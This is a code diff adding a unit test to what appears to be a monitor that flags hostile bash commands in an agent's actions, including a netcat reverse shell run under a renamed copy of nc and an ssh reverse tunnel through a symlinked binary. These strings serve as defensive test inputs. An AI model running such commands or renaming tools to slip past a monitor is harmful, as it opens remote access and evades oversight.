@@ -614,3 +614,17 @@ def test_a_file_written_by_a_skipped_action_is_there_when_a_later_one_runs_it(fi
     assert "reverse_shell_netcat_exec" in rules(then, "a")
     assert "reverse_shell_netcat_exec" in rules(then, "b")
     assert "reverse_shell_netcat_exec" not in rules(then, "c")  # a run that wrote nothing
+
+
+def test_a_program_copied_into_the_path_runs_by_its_bare_name_in_that_run_only():
+    engine = Engine(load())
+
+    def rules(text, episode):
+        event = from_dict({"kind": "action", "ts": 1, "tool": "bash", "input": text, "episode": episode})
+        return {f.rule for f in engine.analyze(event)}
+    run = "foo -e /bin/sh 10.0.0.1 4444"
+    assert "reverse_shell_netcat_exec" not in rules(run, "other")   # read (and cached) where no foo exists
+    rules("cp /usr/bin/nc /usr/local/bin/foo", "a")
+    assert "reverse_shell_netcat_exec" in rules(run, "a")           # not the reading cached above
+    assert "reverse_shell_netcat_exec" not in rules(run, "b")
+    assert "ssh_reverse_tunnel" in rules("ln -s /usr/bin/ssh /usr/local/bin/upd && upd -R 2222:localhost:22 u@h", "c")
